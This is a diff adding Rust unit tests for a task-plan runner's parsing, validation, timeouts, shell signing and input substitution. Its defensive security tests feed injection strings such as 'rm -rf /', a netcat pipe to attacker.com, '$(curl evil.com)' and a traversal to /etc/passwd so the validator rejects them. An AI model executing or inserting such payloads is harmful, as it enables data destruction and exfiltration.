+        let err = Plan::from_json_strict(r#"{"plan_id":"p","tasks":[],"descripton":"x"}"#)
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("unknown field `descripton` in plan"), "{err}");
+
+        let err = Plan::from_json_strict(
+            r#"{"plan_id":"p","tasks":[],"on_success_enqueue":{"plan_id":"q","inputs":{}}}"#,
+        )
+        .unwrap_err()
+        .to_string();
+        assert!(err.contains("`inputs` in on_success_enqueue"), "{err}");
+    }
+
+    #[test]
+    fn test_strict_field_lists_match_schema() {
+        let keys = |value: serde_json::Value| {
+            let mut keys: Vec<String> = value.as_object().unwrap().keys().cloned().collect();
+            keys.sort();
+            keys
+        };
+        let sorted = |fields: &[&str]| {
+            let mut fields: Vec<String> = fields.iter().map(ToString::to_string).collect();
+            fields.sort();
+            fields
+        };
+
+        // Every field set to a non-default value so none is skipped when serializing
+        let task = Task {
+            task_number: 1,
+            command: "jq".to_string(),
+            args: vec![".".to_string()],
+            input_from_task: Some(1),
+            input_from_tasks: vec![1],
+            stdin_mode: Some(StdinMode::FromTask),
+            timeout_secs: Some(5),
+            max_output_bytes: Some(1),
+            soft_deadline_secs: Some(1),
+            input_as_file: true,
+            shell: true,
+            expect_json: true,
+            json_format: Some(JsonFormat::Compact),
+            detach: true,
+            fifo_output: Some("/tmp/live.fifo".to_string()),
+            idempotent: false,
+            encode_output_base64: true,
+            env: BTreeMap::from([("TZ".to_string(), "UTC".to_string())]),
+            retries: 1,
+        };
+        let follow_up = FollowUp {
+            plan_id: "next".to_string(),
+            input: BTreeMap::from([("path".to_string(), 1)]),
+        };
+        let plan = Plan {
+            plan_id: "p".to_string(),
+            plan_description: Some("d".to_string()),
+            tasks: vec![task.clone()],
+            execution_strategy: ExecutionStrategy::RunAll,
+            output_mode: OutputMode::PerTask,
+            env: BTreeMap::from([("LANG".to_string(), "C".to_string())]),
+            parse_command_strings: true,
+            on_success_enqueue: Some(follow_up.clone()),
+            trusted_signature: Some("00".to_string()),
+        };
+
+        assert_eq!(
+            keys(serde_json::to_value(&plan).unwrap()),
+            sorted(PLAN_FIELDS)
+        );
+        assert_eq!(
+            keys(serde_json::to_value(&task).unwrap()),
+            sorted(TASK_FIELDS)
+        );
+        assert_eq!(
+            keys(serde_json::to_value(&follow_up).unwrap()),
+            sorted(FOLLOW_UP_FIELDS)
+        );
+        assert_eq!(
+            Plan::from_json_strict(&plan.to_json().unwrap()).unwrap(),
+            plan
+        );
+    }
+
+    #[test]
+    fn test_task_validation_command_injection() {
+        let task = Task {
+            task_number: 1,
+            command: "ls; rm -rf /".to_string(),
+            args: vec![],
+            input_from_task: None,
+            timeout_secs: None,
+            ..Default::default()
+        };
+
+        assert!(task.validate().is_err());
+    }
+
+    #[test]
+    fn test_task_validation_timeout_too_low() {
+        let task = Task {
+            task_number: 1,
+            command: "sleep".to_string(),
             args: vec!["10".to_string()],
             input_from_task: None,
             timeout_secs: Some(0),
+            ..Default::default()
+        };
+
+        assert!(task.validate().is_err());
+    }
+
+    #[test]
+    fn test_task_validation_zero_output_limit() {
+        let task = Task {
+            task_number: 1,
+            command: "echo".to_string(),
+            max_output_bytes: Some(0),
+            ..Default::default()
+        };
+
+        assert!(task.validate().is_err());
+    }
+
+    #[test]
+    fn test_task_validation_soft_deadline() {
+        let task = Task {
+            task_number: 1,
+            command: "sleep".to_string(),
+            timeout_secs: Some(30),
+            soft_deadline_secs: Some(10),
+            ..Default::default()
+        };
+        assert!(task.validate().is_ok());
+
+        let zero = Task {
+            soft_deadline_secs: Some(0),
+            ..task.clone()
+        };
+        assert!(zero.validate().is_err());
+
+        let not_before_timeout = Task {
+            soft_deadline_secs: Some(30),
+            ..task
+        };
+        assert!(not_before_timeout.validate().is_err());
+    }
+
+    #[test]
+    fn test_task_input_as_file_defaults_to_false() {
+        let json = r#"{"task_number":1,"command":"tool","input_as_file":true}"#;
+        let task: Task = serde_json::from_str(json).unwrap();
+        assert!(task.input_as_file);
+
+        let json = r#"{"task_number":1,"command":"tool"}"#;
+        let task: Task = serde_json::from_str(json).unwrap();
+        assert!(!task.input_as_file);
+        assert!(!serde_json::to_string(&task)
+            .unwrap()
+            .contains("input_as_file"));
+    }
+
+    #[test]
+    fn test_task_max_output_bytes_parsing() {
+        let json =
+            r#"{"plan_id":"p","tasks":[{"task_number":1,"command":"ls","max_output_bytes":1024}]}"#;
+        let plan = Plan::from_json(json).unwrap();
+        assert_eq!(plan.tasks[0].max_output_bytes, Some(1024));
+
+        let json = r#"{"plan_id":"p","tasks":[{"task_number":1,"command":"ls"}]}"#;
+        let plan = Plan::from_json(json).unwrap();
+        assert_eq!(plan.tasks[0].max_output_bytes, None);
+    }
+
+    #[test]
+    fn test_plan_execution_strategy_parsing() {
+        let json = r#"{"plan_id":"p","tasks":[],"execution_strategy":"run_all"}"#;
+        let plan = Plan::from_json(json).unwrap();
+        assert_eq!(plan.execution_strategy, ExecutionStrategy::RunAll);
+
+        let json = r#"{"plan_id":"p","tasks":[]}"#;
+        let plan = Plan::from_json(json).unwrap();
+        assert_eq!(plan.execution_strategy, ExecutionStrategy::HaltOnFailure);
+        assert!(!plan.to_json().unwrap().contains("execution_strategy"));
+
+        let json = r#"{"plan_id":"p","tasks":[],"execution_strategy":"sometimes"}"#;
+        assert!(Plan::from_json(json).is_err());
+    }
+
+    #[test]
+    fn test_task_idempotent_defaults_to_true() {
+        let json = r#"{"plan_id":"p","tasks":[{"task_number":1,"command":"sort"}]}"#;
+        let plan = Plan::from_json(json).unwrap();
+        assert!(plan.tasks[0].idempotent);
+        assert!(Task::default().idempotent);
+        assert!(!plan.to_json().unwrap().contains("idempotent"));
+
+        let json =
+            r#"{"plan_id":"p","tasks":[{"task_number":1,"command":"sort","idempotent":false}]}"#;
+        assert!(!Plan::from_json(json).unwrap().tasks[0].idempotent);
+    }
+
+    #[test]
+    fn test_plan_output_mode_parsing() {
+        for (name, mode) in [
+            ("concatenated", OutputMode::Concatenated),
+            ("last_task_only", OutputMode::LastTaskOnly),
+            ("per_task", OutputMode::PerTask),
+        ] {
+            let json = format!(r#"{{"plan_id":"p","tasks":[],"output_mode":"{name}"}}"#);
+            assert_eq!(Plan::from_json(&json).unwrap().output_mode, mode);
+        }
+
+        let plan = Plan::from_json(r#"{"plan_id":"p","tasks":[]}"#).unwrap();
+        assert_eq!(plan.output_mode, OutputMode::Concatenated);
+        assert!(!plan.to_json().unwrap().contains("output_mode"));
+
+        let json = r#"{"plan_id":"p","tasks":[],"output_mode":"first_task_only"}"#;
+        assert!(Plan::from_json(json).is_err());
+    }
+
+    #[test]
+    fn test_plan_follow_up_validation() {
+        let json = r#"{
+            "plan_id": "p",
+            "tasks": [{"task_number": 1, "command": "echo"}],
+            "on_success_enqueue": {"plan_id": "next", "input": {"path": 1}}
+        }"#;
+        let plan = Plan::from_json(json).unwrap();
+        let follow_up = plan.on_success_enqueue.clone().unwrap();
+        assert_eq!(follow_up.plan_id, "next");
+        assert_eq!(follow_up.input["path"], 1);
+        assert!(plan.validate().is_ok());
+
+        let with_follow_up = |plan_id: &str, field: &str, task_number: u32| Plan {
+            on_success_enqueue: Some(FollowUp {
+                plan_id: plan_id.to_string(),
+                input: BTreeMap::from([(field.to_string(), task_number)]),
+            }),
+            ..plan.clone()
+        };
+        assert!(with_follow_up("next", "path", 2).validate().is_err());
+        assert!(with_follow_up("next", "path", 0).validate().is_err());
+        assert!(with_follow_up("next", "bad.field", 1).validate().is_err());
+        assert!(with_follow_up("", "path", 1).validate().is_err());
+        let err = with_follow_up("p", "path", 1).validate().unwrap_err();
+        assert!(
+            err.to_string().contains("cannot enqueue plan 'p' itself"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn test_follow_up_build_input_strips_trailing_newline() {
+        let follow_up = FollowUp {
+            plan_id: "next".to_string(),
+            input: BTreeMap::from([("a".to_string(), 1), ("b".to_string(), 2)]),
+        };
+        let outputs = ["one\n", "two\r\n\n"];
+        let input = follow_up
+            .build_input(|n| outputs.get(n as usize - 1).copied())
+            .unwrap();
+        assert_eq!(input, serde_json::json!({"a": "one", "b": "two\r\n"}));
+
+        let missing = FollowUp {
+            input: BTreeMap::from([("c".to_string(), 3)]),
+            ..follow_up
+        };
+        assert!(missing
+            .build_input(|n| outputs.get(n as usize - 1).copied())
+            .is_err());
+    }
+
+    #[test]
+    fn test_encode_output_base64_validation() {
+        let binary = Task {
+            task_number: 1,
+            command: "gzip".to_string(),
+            encode_output_base64: true,
+            ..Default::default()
+        };
+        assert!(binary.validate().is_ok());
+        let err = Task {
+            expect_json: true,
+            ..binary
+        }
+        .validate()
+        .unwrap_err();
+        assert!(err.to_string().contains("encode_output_base64"), "{err}");
+    }
+
+    #[test]
+    fn test_detached_task_validation() {
+        let detached = Task {
+            task_number: 1,
+            command: "daemon".to_string(),
+            detach: true,
+            ..Default::default()
+        };
+        assert!(detached.validate().is_ok());
+
+        for task in [
+            Task {
+                timeout_secs: Some(30),
+                ..detached.clone()
+            },
+            Task {
+                input_as_file: true,
+                ..detached.clone()
+            },
+            Task {
+                expect_json: true,
+                ..detached.clone()
+            },
+            Task {
+                fifo_output: Some("/tmp/agw.fifo".to_string()),
+                ..detached.clone()
+            },
+            Task {
+                encode_output_base64: true,
+                ..detached.clone()
+            },
+        ] {
+            assert!(task.validate().is_err());
+        }
+
+        // Nothing can read a detached task's output
+        let plan = Plan {
+            plan_id: "p".to_string(),
+            tasks: vec![
+                detached,
+                Task {
+                    task_number: 2,
+                    command: "cat".to_string(),
+                    input_from_task: Some(1),
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+        assert!(plan.validate().is_err());
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_fifo_output_path_validation() {
+        let with_fifo = |path: &str| Task {
+            task_number: 1,
+            command: "tail".to_string(),
+            fifo_output: Some(path.to_string()),
+            ..Default::default()
+        };
+        assert!(with_fifo("/run/agw/live.fifo").validate().is_ok());
+
+        for path in [
+            "",
+            "live.fifo",
+            "/run/agw/../../etc/passwd",
+            "/run/agw/..",
+            "/run/agw/live;rm.fifo",
+        ] {
+            assert!(with_fifo(path).validate().is_err(), "{path:?}");
+        }
+    }
+
+    #[test]
+    fn test_default_timeout_and_required_timeouts() {
+        let mut plan = Plan {
+            plan_id: "p".to_string(),
+            tasks: vec![
+                Task {
+                    task_number: 1,
+                    command: "sort".to_string(),
+                    timeout_secs: Some(30),
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 2,
+                    command: "uniq".to_string(),
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 3,
+                    command: "daemon".to_string(),
+                    detach: true,
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+        let err = plan.require_timeouts().unwrap_err();
+        assert!(err.to_string().contains("Task 2"), "{err}");
+
+        plan.apply_default_timeout(600);
+        let timeouts: Vec<_> = plan.tasks.iter().map(|task| task.timeout_secs).collect();
+        assert_eq!(timeouts, [Some(30), Some(600), None]);
+        assert!(plan.require_timeouts().is_ok());
+        assert!(plan.validate().is_ok());
+    }
+
+    #[test]
+    fn test_check_declared_inputs() {
+        let plan = Plan {
+            plan_id: "p".to_string(),
+            tasks: vec![
+                Task {
+                    task_number: 1,
+                    command: "cp".to_string(),
+                    args: vec!["{{input.src}}".to_string(), "{{input.dst}}".to_string()],
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 2,
+                    command: "ls".to_string(),
+                    args: vec!["{{input.dst}}/{{input.name}}".to_string()],
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+        assert_eq!(
+            plan.input_variables().into_iter().collect::<Vec<_>>(),
+            ["dst", "name", "src"]
+        );
+
+        let input = serde_json::json!({"src": "a", "dst": "b", "name": "c"});
+        assert!(plan.check_declared_inputs(&input).unwrap().is_empty());
+
+        let extra =
+            serde_json::json!({"src": "a", "dst": "b", "name": "c", "debug": true, "user": "x"});
+        assert_eq!(
+            plan.check_declared_inputs(&extra).unwrap(),
+            ["debug", "user"]
+        );
+
+        let err = plan
+            .check_declared_inputs(&serde_json::Value::Null)
+            .unwrap_err();
+        assert!(
+            err.to_string()
+                .contains("Plan uses input variables (dst, name, src) but the job has no input"),
+            "{err}"
+        );
+
+        // A plan without variables needs no input
+        let fixed = Plan {
+            tasks: vec![Task {
+                task_number: 1,
+                command: "date".to_string(),
+                ..Default::default()
+            }],
+            ..plan
+        };
+        assert!(fixed
+            .check_declared_inputs(&serde_json::Value::Null)
+            .unwrap()
+            .is_empty());
+        assert_eq!(fixed.check_declared_inputs(&input).unwrap().len(), 3);
+
+        // A task reading the input file may use any field
+        let whole = Plan {
+            tasks: vec![Task {
+                task_number: 1,
+                command: "jq".to_string(),
+                input_as_file: true,
+                ..Default::default()
+            }],
+            ..fixed
+        };
+        assert!(whole.check_declared_inputs(&extra).unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_checked_timeout_sum_rejects_overflow() {
+        assert_eq!(checked_timeout_sum([]).unwrap(), 0);
+        assert_eq!(checked_timeout_sum([u64::MAX - 1, 1]).unwrap(), u64::MAX);
+        assert!(checked_timeout_sum([u64::MAX, 1]).is_err());
+        assert!(checked_timeout_sum([u64::MAX / 2 + 1, u64::MAX / 2 + 1]).is_err());
+    }
+
+    #[test]
+    fn test_plan_max_runtime() {
+        let task = |task_number, timeout_secs| Task {
+            task_number,
+            command: "echo".to_string(),
+            timeout_secs,
+            ..Default::default()
+        };
+        let plan = Plan {
+            plan_id: "p".to_string(),
+            tasks: vec![task(1, Some(30)), task(2, Some(MAX_TIMEOUT_SECS))],
+            ..Default::default()
+        };
+        assert!(plan.validate().is_ok());
+        assert_eq!(plan.max_runtime_secs(0).unwrap(), Some(30 + 86_400));
+        assert_eq!(plan.max_runtime_secs(5).unwrap(), Some(40 + 86_400));
+
+        // Near-u64::MAX kill grace: the aggregate is rejected rather than wrapping
+        assert!(plan.max_runtime_secs(u64::MAX - 10).is_err());
+        assert!(plan.max_runtime_secs(u64::MAX / 2).is_err());
+
+        let unbounded = Plan {
+            tasks: vec![task(1, Some(30)), task(2, None)],
+            ..plan
         };
+        assert_eq!(unbounded.max_runtime_secs(u64::MAX).unwrap(), None);
+    }
+
+    #[test]
+    fn test_job_request_id_validation() {
+        let job = Job::from_json(r#"{"job_id":"j","plan_id":"p","request_id":"req-42"}"#).unwrap();
+        assert_eq!(job.request_id.as_deref(), Some("req-42"));
+        assert!(job.validate().is_ok());
+
+        for bad in ["", "req 42", "req-42\nlevel=ERROR", &"r".repeat(129)] {
+            let job = Job {
+                request_id: Some(bad.to_string()),
+                ..job.clone()
+            };
+            assert!(job.validate().is_err(), "{bad:?} should be rejected");
+        }
+    }
+
+    #[test]
+    fn test_job_chain_depth_is_capped() {
+        let job = Job::from_json(r#"{"job_id":"j","plan_id":"p"}"#).unwrap();
+        assert_eq!(job.chain_depth, 0);
+        assert!(!serde_json::to_string(&job).unwrap().contains("chain_depth"));
+
+        let job = Job {
+            chain_depth: MAX_FOLLOW_UP_DEPTH,
+            ..job
+        };
+        assert!(job.validate().is_ok());
+        let json = serde_json::to_string(&job).unwrap();
+        assert_eq!(Job::from_json(&json).unwrap(), job);
+
+        let job = Job {
+            chain_depth: MAX_FOLLOW_UP_DEPTH + 1,
+            ..job
+        };
+        assert!(job.validate().is_err());
+    }
+
+    #[test]
+    fn test_job_priority_defaults_to_normal() {
+        let job = Job::from_json(r#"{"job_id":"j","plan_id":"p"}"#).unwrap();
+        assert_eq!(job.priority, JobPriority::Normal);
+        assert!(!serde_json::to_string(&job).unwrap().contains("priority"));
+
+        let job = Job::from_json(r#"{"job_id":"j","plan_id":"p","priority":"high"}"#).unwrap();
+        assert_eq!(job.priority, JobPriority::High);
+        assert!(Job::from_json(r#"{"job_id":"j","plan_id":"p","priority":"urgent"}"#).is_err());
+
+        assert_eq!("low".parse::<JobPriority>(), Ok(JobPriority::Low));
+        assert!("LOW".parse::<JobPriority>().is_err());
+    }
+
+    #[test]
+    fn test_job_input_ref_validation() {
+        let job =
+            Job::from_json(r#"{"job_id":"j","plan_id":"p","input_ref":"inputs:abc"}"#).unwrap();
+        assert_eq!(job.input_ref.as_deref(), Some("inputs:abc"));
+        assert!(job.validate().is_ok());
+
+        let both = Job {
+            input: serde_json::json!({"path": "/tmp"}),
+            ..job.clone()
+        };
+        assert!(both.validate().is_err());
+
+        for bad in ["", "inputs abc", "inputs\r\nDEL x", "inputs:{x}"] {
+            let job = Job {
+                input_ref: Some(bad.to_string()),
+                ..job.clone()
+            };
+            assert!(job.validate().is_err(), "{bad:?} should be rejected");
+        }
+    }
+
+    fn shell_plan() -> Plan {
+        Plan {
+            plan_id: "plan-1".to_string(),
+            tasks: vec![Task {
+                task_number: 1,
+                command: "echo hi | tr a-z A-Z".to_string(),
+                shell: true,
+                ..Default::default()
+            }],
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn test_shell_task_rejected_by_default() {
+        let verifier = PlanVerifier::new("0123456789abcdef0123456789abcdef");
+        let mut plan = shell_plan();
+        plan.trusted_signature = Some(verifier.sign(&plan));
+
+        // Signed, but shell mode is not enabled
+        let err = plan.validate().unwrap_err().to_string();
+        assert!(err.contains("--allow-shell"), "{err}");
+    }
+
+    #[test]
+    fn test_shell_task_requires_valid_signature() {
+        let verifier = PlanVerifier::new("0123456789abcdef0123456789abcdef");
+        let mut plan = shell_plan();
+
+        // Shell mode enabled, but unsigned
+        let err = plan
+            .validate_trusted(Some(&verifier))
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("trusted_signature"), "{err}");
+
+        plan.trusted_signature = Some(verifier.sign(&plan));
+        assert!(plan.validate_trusted(Some(&verifier)).is_ok());
+    }
+
+    #[test]
+    fn test_shell_args_still_checked_for_dangerous_patterns() {
+        let mut task = shell_plan().tasks.remove(0);
+        task.args = vec!["a; rm -rf /".to_string()];
+        assert!(task.validate().is_err());
+    }
 
+    #[test]
+    fn test_task_json_format_requires_expect_json() {
+        let json = r#"{"task_number":1,"command":"jq","json_format":"compact"}"#;
+        let mut task: Task = serde_json::from_str(json).unwrap();
+        assert_eq!(task.json_format, Some(JsonFormat::Compact));
         assert!(task.validate().is_err());
+
+        task.expect_json = true;
+        assert!(task.validate().is_ok());
     }
 
     // ===== Unit tests for substitute_variables() =====
@@ -713,6 +2944,7 @@ mod tests {
             args: vec!["{{input.path}}".to_string(), "-n".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let input = json!({"path": "/tmp/test.txt"});
@@ -731,6 +2963,7 @@ mod tests {
             args: vec!["{{input.src}}".to_string(), "{{input.dest}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let input = json!({"src": "/tmp/a", "dest": "/tmp/b"});
@@ -740,6 +2973,228 @@ mod tests {
         assert_eq!(result.args[1], "/tmp/b");
     }
 
+    #[test]
+    fn test_task_substitute_input_reports_all_missing_fields() {
+        use serde_json::json;
+        let task = Task {
+            task_number: 1,
+            command: "cp".to_string(),
+            args: vec![
+                "{{input.src}}".to_string(),
+                "{{input.dest}}".to_string(),
+                "{{input.src}}".to_string(),
+            ],
+            ..Default::default()
+        };
+
+        let err = task.substitute_input(&json!({})).unwrap_err().to_string();
+        assert!(err.contains("Missing required input fields: src, dest"));
+    }
+
+    #[test]
+    fn test_plan_substitute_input_aggregates_errors_across_tasks() {
+        use serde_json::json;
+        let plan = Plan {
+            plan_id: "plan-1".to_string(),
+            tasks: vec![
+                Task {
+                    task_number: 1,
+                    command: "cat".to_string(),
+                    args: vec!["{{input.source}}".to_string()],
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 2,
+                    command: "echo".to_string(),
+                    args: vec!["{{input.present}}".to_string()],
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 3,
+                    command: "cp".to_string(),
+                    args: vec!["{{input.dest}}".to_string(), "{{input.items}}".to_string()],
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+        let input = json!({"present": "ok", "items": [1, 2]});
+
+        let err = plan
+            .substitute_input(&input, &Redactor::default(), &SubstitutionLimits::default())
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("2 task(s)"), "{err}");
+        assert!(
+            err.contains("task 1: Missing required input fields: source"),
+            "{err}"
+        );
+        assert!(
+            err.contains("task 3: Missing required input fields: dest"),
+            "{err}"
+        );
+        assert!(err.contains("'items' has unsupported type"), "{err}");
+        assert!(!err.contains("task 2"), "{err}");
+
+        let input = json!({"present": "ok", "source": "a", "dest": "b", "items": "c"});
+        let substituted = plan
+            .substitute_input(&input, &Redactor::default(), &SubstitutionLimits::default())
+            .unwrap();
+        assert_eq!(substituted.tasks[0].args, vec!["a"]);
+        assert_eq!(substituted.tasks[2].args, vec!["b", "c"]);
+    }
+
+    #[test]
+    fn test_substitution_limits_reject_oversized_expansion() {
+        let plan = Plan {
+            plan_id: "p".to_string(),
+            tasks: vec![
+                Task {
+                    task_number: 1,
+                    command: "echo".to_string(),
+                    args: vec!["{{input.small}}".to_string()],
+                    ..Default::default()
+                },
+                Task {
+                    task_number: 2,
+                    command: "echo".to_string(),
+                    args: vec!["{{input.blob}}".to_string(), "{{input.blob}}".to_string()],
+                    ..Default::default()
+                },
+            ],
+            ..Default::default()
+        };
+        let input = serde_json::json!({"small": "ok", "blob": "x".repeat(600)});
+        let limits = SubstitutionLimits {
+            max_arg_count: None,
+            max_total_bytes: Some(1000),
+            reject_empty_args: false,
+        };
+
+        let err = plan
+            .substitute_input(&input, &Redactor::default(), &limits)
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains(
+                "task 2: Substituted arguments total 1200 bytes, exceeding the maximum of 1000"
+            ),
+            "{err}"
+        );
+        assert!(!err.contains("task 1"), "{err}");
+
+        let limits = SubstitutionLimits {
+            max_arg_count: Some(1),
+            max_total_bytes: None,
+            reject_empty_args: false,
+        };
+        let err = plan
+            .substitute_input(&input, &Redactor::default(), &limits)
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.contains("task 2: Substituted arguments number 2, exceeding the maximum of 1"),
+            "{err}"
+        );
+
+        // Within bounds (or unbounded) the plan substitutes as usual
+        let limits = SubstitutionLimits {
+            max_arg_count: Some(2),
+            max_total_bytes: Some(1200),
+            reject_empty_args: false,
+        };
+        assert!(plan
+            .substitute_input(&input, &Redactor::default(), &limits)
+            .is_ok());
+    }
+
+    #[test]
+    fn test_reject_empty_substituted_args() {
+        let plan = Plan {
+            plan_id: "plan-1".to_string(),
+            tasks: vec![Task {
+                task_number: 1,
+                command: "grep".to_string(),
+                args: vec![
+                    "{{input.pattern}}".to_string(),
+                    String::new(),
+                    "{{input.file}}".to_string(),
+                ],
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let rejecting = SubstitutionLimits {
+            reject_empty_args: true,
+            ..SubstitutionLimits::default()
+        };
+
+        for blank in ["", " \t "] {
+            let input = serde_json::json!({"pattern": blank, "file": "/tmp/log"});
+            let err = plan
+                .substitute_input(&input, &Redactor::default(), &rejecting)
+                .unwrap_err()
+                .to_string();
+            assert!(
+                err.contains("task 1: Substitution left args[0] empty or whitespace-only"),
+                "{err}"
+            );
+
+            // Disabled by default
+            let substituted = plan
+                .substitute_input(&input, &Redactor::default(), &SubstitutionLimits::default())
+                .unwrap();
+            assert_eq!(substituted.tasks[0].args[0], blank);
+        }
+
+        // The literal empty argument is not a substitution
+        let input = serde_json::json!({"pattern": "error", "file": "/tmp/log"});
+        assert!(plan
+            .substitute_input(&input, &Redactor::default(), &rejecting)
+            .is_ok());
+    }
+
+    #[test]
+    fn test_substitution_traced_with_secrets_redacted() {
+        use crate::test_logs::capture_logs_at;
+
+        let plan = Plan {
+            plan_id: "p".to_string(),
+            tasks: vec![Task {
+                task_number: 2,
+                command: "curl".to_string(),
+                args: vec![
+                    "{{input.url}}".to_string(),
+                    "--token={{input.token}}".to_string(),
+                ],
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let input =
+            serde_json::json!({"url": "https://example.com/a", "token": "ghp_abcdEFGH1234"});
+        let redactor = Redactor::new(vec![Regex::new(r"ghp_\w+").unwrap()]);
+
+        let (guard, logs) = capture_logs_at(tracing::Level::TRACE);
+        let substituted = plan
+            .substitute_input(&input, &redactor, &SubstitutionLimits::default())
+            .unwrap();
+        drop(guard);
+        assert_eq!(substituted.tasks[0].args[1], "--token=ghp_abcdEFGH1234");
+
+        let logs = logs.contents();
+        assert!(
+            logs.lines().any(|line| line.contains("substitute{task=2}")
+                && line.contains(r#"Resolved {{input.url}} to "https://example.com/a""#)),
+            "{logs}"
+        );
+        assert!(
+            logs.contains(r#"Resolved {{input.token}} to "***""#),
+            "{logs}"
+        );
+        assert!(!logs.contains("ghp_abcdEFGH1234"), "{logs}");
+    }
+
     // ===== Security tests for input substitution =====
 
     #[test]
@@ -751,6 +3206,7 @@ mod tests {
             args: vec!["{{input.path}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         // Attempt command injection via input
@@ -773,6 +3229,7 @@ mod tests {
             args: vec!["{{input.file}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let malicious_input = json!({"file": "test.txt | nc attacker.com 1234"});
@@ -793,6 +3250,7 @@ mod tests {
             args: vec!["{{input.path}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let malicious_input = json!({"path": "../../../etc/passwd"});
@@ -813,6 +3271,7 @@ mod tests {
             args: vec!["{{input.value}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let malicious_input = json!({"value": "`whoami`"});
@@ -833,6 +3292,7 @@ mod tests {
             args: vec!["{{input.value}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let malicious_input = json!({"value": "$(curl evil.com)"});
@@ -853,6 +3313,7 @@ mod tests {
             args: vec!["{{input.file}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let malicious_input = json!({"file": "test.txt\nrm -rf /"});
@@ -873,6 +3334,7 @@ mod tests {
             args: vec!["{{input.file}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let malicious_input = json!({"file": "test.txt\0malicious"});
@@ -893,6 +3355,7 @@ mod tests {
             args: vec!["{{input.text}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         // Right-to-left override character
@@ -914,6 +3377,7 @@ mod tests {
             args: vec!["{{input.path}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         // Safe input should pass validation
@@ -939,6 +3403,7 @@ mod tests {
             ],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Default::default()
         };
 
         let safe_input = json!({"src": "/tmp/source.txt", "dest": "/tmp/destination.txt"});